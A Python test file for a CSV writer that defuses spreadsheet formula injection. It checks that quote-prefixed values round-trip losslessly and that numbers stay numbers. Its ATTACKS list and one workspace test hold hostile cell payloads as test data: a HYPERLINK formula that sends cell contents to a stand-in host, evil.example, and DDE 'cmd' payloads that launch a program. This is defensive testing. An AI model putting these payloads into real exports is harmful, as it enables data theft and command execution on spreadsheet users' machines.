"""Issue 12 item 11: one CSV writer that defuses formulas, lossless for files read back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from careerpaths.io import csvsafe
from careerpaths.io.workspace import load_workspace, write_workspace
from tests.factories import mini_region

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def written(cells: list[object]) -> list[str]:
    buf = io.StringIO()
    csvsafe.writer(buf, lineterminator="\n").writerow(cells)
    return next(csv.reader(io.StringIO(buf.getvalue(), newline="")))


def test_every_formula_start_is_defused() -> None:
    for attack in ATTACKS:
        (cell,) = written([attack])
        assert cell == "'" + attack


def test_numbers_stay_numbers() -> None:
    assert written([-3, "-3", "+1.5", "-2e3", 4.25, "", None]) == [
        "-3",
        "-3",
        "+1.5",
        "-2e3",
        "4.25",
        "",
        "",
    ]


@pytest.mark.slow
@given(st.text())
def test_restore_inverts_neutralize(text: str) -> None:
    safe = csvsafe.neutralize(text)
    assert isinstance(safe, str)
    assert csvsafe.restore(safe) == text
    assert not safe or safe[0] not in "=@\t\r" or safe[0] == "'"
    if safe[:1] in ("-", "+"):
        float(safe)  # only a number may start with a sign


def test_a_workspace_with_formula_like_titles_round_trips(tmp_path: Path) -> None:
    region = mini_region()
    key = next(iter(region.courses))
    course = region.courses[key]
    import dataclasses

    evil = dataclasses.replace(course, title="=cmd|' /C calc'!A0", description="'quoted")
    region = dataclasses.replace(region, courses={**region.courses, key: evil})
    write_workspace(region, tmp_path / "ws")
    text = (tmp_path / "ws" / "courses.csv").read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in text and ",=cmd" not in text
    assert load_workspace(tmp_path / "ws").courses[key].title == "=cmd|' /C calc'!A0"
    assert load_workspace(tmp_path / "ws").courses[key].description == "'quoted"


def _written(rows: list[list[object]], *, per_cell: bool) -> str:
    out = io.StringIO()
    w = csvsafe.writer(out, lineterminator="\n")
    for row in rows:
        if per_cell:  # the plain rule: every cell through neutralize, CR rows quoted
            cells = [csvsafe.neutralize(c) for c in row]
            target = w._quoted if any(isinstance(c, str) and "\r" in c for c in cells) else w._inner
            target.writerow(cells)
        else:
            w.writerow(row)
    return out.getvalue()


_CELL = st.one_of(
    st.text(max_size=6),
    st.text(alphabet="=+-@\t\r'\0 a1.,\"", max_size=5),
    st.integers(-5, 5),
    st.floats(allow_nan=False, width=32),
    st.none(),
)


_TEXT_CELL = st.text(alphabet="=+-@\t\r'\0 a1.,\"", max_size=3)


@given(
    st.lists(st.one_of(st.lists(_TEXT_CELL, max_size=4), st.lists(_CELL, max_size=6)), max_size=4)
)
def test_the_row_at_once_check_writes_what_the_cell_by_cell_rule_writes(
    rows: list[list[object]],
) -> None:
    assert _written(rows, per_cell=False) == _written(rows, per_cell=True)


def test_a_row_with_one_risky_cell_among_plain_ones_is_defused() -> None:
    assert _written([["plain", "=1+2", "'q", "-3", "@x"]], per_cell=False) == (
        "plain,'=1+2,''q,-3,'@x\n"
    )
    for cell in ("'q", "=q", "+q", "-q", "@q", "\tq"):  # alone among plain cells
        assert _written([["a", cell, "b"]], per_cell=False) == f"a,'{cell},b\n"
    # a carriage return anywhere: the whole row quoted, so that readers keep one line
    assert _written([["plain", "x\ry"]], per_cell=False) == '"plain","x\ry"\n'
